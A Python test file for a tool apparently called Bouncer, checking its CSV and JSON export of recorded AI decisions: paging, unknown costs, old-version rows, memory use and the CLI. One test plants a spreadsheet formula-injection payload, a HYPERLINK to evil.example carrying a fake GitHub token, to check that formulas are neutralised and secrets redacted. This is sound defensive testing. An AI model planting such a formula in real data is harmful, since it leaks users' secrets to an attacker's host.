"""The ledger as a file: complete, harmless in a spreadsheet, and made while it is read."""

from __future__ import annotations

import csv
import gc
import io
import json
import os
import tracemalloc
from pathlib import Path

from sqlalchemy import update

from bot.core.actions import Decision, Usage
from bot.core.subjects import Subject
from bot.pipeline.store import Ledger, migrate, open_database
from bot.pipeline.store.overview import Filter, Overview, as_csv, as_json
from bot.pipeline.store.tables import DECISIONS
from tests import forked


def recorded(folder: Path, count: int, reason: str = "unclear") -> Overview:
    database = open_database(f"sqlite:///{folder}/bouncer.db")
    migrate(database)
    ledger = Ledger(database)
    for number in range(1, count + 1):
        decision = Decision(
            kind="verify",
            subject=Subject(repository="acme/rocket", number=number, revision="sha:1"),
            verdict="CORRECT_AND_PRECISE",
            reason=reason,
            usage=Usage(calls=1, cost_usd=None if number % 2 else 0.25),
            model="openai:own",
        )
        ledger.decisions.record(f"d{number}:verify", (decision,), "c")
    return Overview(database)


def test_an_unknown_cost_is_not_nothing_and_all_pages_are_there(tmp_path: Path) -> None:
    overview = recorded(tmp_path, 450)
    rows = list(csv.DictReader(io.StringIO("".join(as_csv(overview, Filter(), "https://github.com")))))
    assert [row["number"] for row in rows] == [str(number) for number in range(450, 0, -1)]
    assert [row["cost_usd"] for row in rows[:2]] == ["0.25", ""]
    assert rows[0]["url"] == "https://github.com/acme/rocket/issues/450"
    objects = json.loads("".join(as_json(overview, Filter(), "https://github.com")))
    assert [row["cost_usd"] for row in objects[:2]] == [0.25, None]
    assert json.loads("".join(as_json(overview, Filter(repository="acme/none"), ""))) == []


def test_no_cell_starts_a_formula_and_no_secret_leaves(tmp_path: Path) -> None:
    token = "ghp_" + "a1B2" * 9
    overview = recorded(tmp_path, 1, f'=HYPERLINK("http://evil.example/{token}")')
    (row,) = csv.DictReader(io.StringIO("".join(as_csv(overview, Filter(), ""))))
    assert row["reason"] == '\'=HYPERLINK("http://evil.example/REDACTED")'
    assert token not in "".join(as_json(overview, Filter(), ""))


def test_a_decision_of_another_version_stops_no_export(tmp_path: Path) -> None:
    overview = recorded(tmp_path, 2)
    database = open_database(f"sqlite:///{tmp_path}/bouncer.db")
    unreadable = update(DECISIONS).where(DECISIONS.c.number == 2).values(decision='{"kind": "of another time"}')
    database.execute(unreadable)
    rows = list(csv.DictReader(io.StringIO("".join(as_csv(overview, Filter(), "")))))
    assert [(row["number"], row["verdict"], row["reason"]) for row in rows] == [
        ("2", "CORRECT_AND_PRECISE", "another version of Bouncer wrote this"),
        ("1", "CORRECT_AND_PRECISE", "unclear"),
    ]


def test_memory_does_not_grow_with_the_ledger(tmp_path: Path) -> None:
    overview = recorded(tmp_path, 500, "x" * 5_000)

    def peak(most: int) -> int:
        gc.collect()
        tracemalloc.start()
        for number, _ in enumerate(as_csv(overview, Filter(), ""), start=1):
            if number == most:
                break
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return peak

    peak(10)
    # Other threads allocate too: the smallest of three peaks is the export's.
    assert min(peak(501) for _ in range(3)) < 1.5 * min(peak(250) for _ in range(3))


def test_the_command_prints_the_same(tmp_path: Path) -> None:
    recorded(tmp_path, 2)
    words = ("export", "--database-url", f"sqlite:///{tmp_path}/bouncer.db", "--format", "json")
    ran = forked.run(*words, environment=os.environ, folder=tmp_path)
    assert [row["number"] for row in json.loads(ran.out)] == [2, 1]
